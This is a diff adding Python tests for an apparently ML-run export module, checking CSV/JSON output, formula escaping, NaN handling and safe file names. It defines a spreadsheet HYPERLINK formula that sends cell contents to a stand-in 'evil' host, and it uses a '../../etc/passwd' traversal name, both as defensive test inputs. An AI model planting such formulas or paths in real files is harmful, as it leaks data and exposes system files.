@@ -1,0 +1,110 @@
+"""Files to take along: no cell runs in a spreadsheet, no type is lost in JSON, no name leaves its folder."""
+
+import csv
+import io
+import json
+import math
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from lib.runs.export.table_files import as_csv, as_json, file_name, harmless
+from lib.runs.table.types import DataInput, RegisteredVersion
+from tests.runs.test_frames import START, made, runs_of
+
+EVIL = "=HYPERLINK(\"http://evil/\"&A1;'x')"
+ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
+
+
+def rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@settings(deadline=None, max_examples=60, derandomize=True)
+@given(st.dictionaries(ANY, ANY, max_size=4), st.dictionaries(ANY, ANY, max_size=3), ANY)
+def test_no_cell_begins_as_a_formula_and_every_text_comes_back(params, tags, name):
+    table = runs_of(made("a", params=params, tags=tags), made(name or "b"))
+    found = list(csv.reader(io.StringIO(as_csv(table, table.ids).decode("utf-8-sig"), newline="")))
+    for cell in (cell for row in found for cell in row):
+        assert not cell or cell[0] not in "=+-@\t\r\n" or math.isfinite(float(cell))
+    row = dict(zip(found[0], found[1], strict=True))
+    assert {row[f"params.{key}"] for key in params} == {harmless(value) for value in params.values()}
+
+
+def test_plain_numbers_stay_numbers_and_formulas_do_not():
+    assert [harmless(cell) for cell in ("-5", "+1.5e-3", "-.5", "-Infinity", "0")] == ["-5", "+1.5e-3", "-.5", "-Infinity", "0"]
+    assert [harmless(cell)[0] for cell in ("-5+1", "=1", "@x", "\tx", "\rx", "+", "-", "-5\n", "＝1", EVIL)] == ["'"] * 10
+
+
+def test_the_csv_has_the_runs_in_the_asked_order_with_parameters_as_logged():
+    table = runs_of(
+        made("a", params={"rate": "1e-05"}, metrics={"acc": 0.5, "loss": -1.5}), made("b", params={"rate": "0.10"}), made("c")
+    )
+    found = rows(as_csv(table, ["b", "a"]))
+    assert [row["run_id"] for row in found] == ["b", "a"]
+    assert [row["params.rate"] for row in found] == ["0.10", "1e-05"]
+    assert (found[1]["metrics.acc"], found[1]["metrics.loss"], found[0]["metrics.acc"]) == ("0.5", "-1.5", "")
+    assert found[0]["started"] == START.isoformat(timespec="milliseconds").replace("+00:00", "Z")
+
+
+def test_a_spreadsheet_sees_utf_8_and_pandas_reads_the_first_heading():
+    data = as_csv(runs_of(made("ä", metrics={"größe": 1.0})), ["ä"])
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert next(iter(pd.read_csv(io.BytesIO(data)).columns)) == "run_id"
+    assert pd.read_csv(io.BytesIO(data)).loc[0, "metrics.größe"] == 1.0
+
+
+def test_json_keeps_types_and_writes_nan_and_infinities_as_words_and_drops_what_is_missing():
+    table = runs_of(
+        made(
+            "a",
+            params={"n": 5, "mode": "x"},
+            metrics={"acc": 0.5, "inf": math.inf, "low": -1.7976931348623157e308, "nan": math.nan},
+            tags={"team": "blue", "mlflow.user": "ana"},
+            inputs=(DataInput("wine", "abc", "train"),),
+            versions=(RegisteredVersion("m", "1", "Production"),),
+        ),
+        made("b", params={"n": 7}),
+    )
+    document = json.loads(as_json(table, table.ids))
+    one, two = document["runs"]
+    assert one["params"] == {"n": 5, "mode": "x"}
+    assert one["metrics"] == {"acc": 0.5, "inf": "Infinity", "low": "-Infinity", "nan": "NaN"}
+    assert (one["tags"], one["inputs"]) == ({"team": "blue"}, [{"name": "wine", "digest": "abc", "context": "train"}])
+    assert (two["params"], two["metrics"]) == ({"n": 7}, {})
+    assert (document["experiments"], document["state"]) == (["1"], "active")
+
+
+@settings(deadline=None, max_examples=60, derandomize=True)
+@given(ANY)
+def test_a_file_name_never_leaves_its_folder_and_is_never_empty(name):
+    made_ = file_name(name, "csv")
+    assert made_.endswith(".csv")
+    assert not made_.startswith(".")
+    assert not set(made_) & set('/\\:*?"<>|\0\n\r ')
+    assert 4 < len(made_) <= 70
+
+
+def test_a_file_name_keeps_what_people_read():
+    assert file_name("card fraud / v2", "csv") == "card-fraud-v2.csv"
+    assert file_name("../../etc/passwd", "json") == "etc-passwd.json"
+    assert file_name("con", "png") == "runs-con.png"
+    assert file_name("größe", "png") == "größe.png"
+
+
+def test_no_run_gives_a_file_with_headings_only():
+    table = runs_of(made("a", metrics={"acc": 1.0}))
+    assert rows(as_csv(table, [])) == []
+    assert json.loads(as_json(table, []))["runs"] == []
+
+
+def test_a_metric_that_is_nan_and_one_that_was_never_logged_are_two_things_in_every_file():
+    table = runs_of(made("a", metrics={"loss": math.nan, "acc": 0.5}), made("b", metrics={"acc": math.nan}), made("c"))
+    for ids in (["a", "b", "c"], ["c", "a"], ["b"]):
+        part = {run["run_id"]: run["metrics"] for run in json.loads(as_json(table, ids), parse_constant=pytest.fail)["runs"]}
+        assert part == {one: {"a": {"loss": "NaN", "acc": 0.5}, "b": {"acc": "NaN"}, "c": {}}[one] for one in ids}
+        cells = {row["run_id"]: (row["metrics.loss"], row["metrics.acc"]) for row in rows(as_csv(table, ids))}
+        assert cells == {one: {"a": ("NaN", "0.5"), "b": ("", "NaN"), "c": ("", "")}[one] for one in ids}
+    assert pd.read_csv(io.BytesIO(as_csv(table, table.ids)))["metrics.acc"].dtype == "float64"
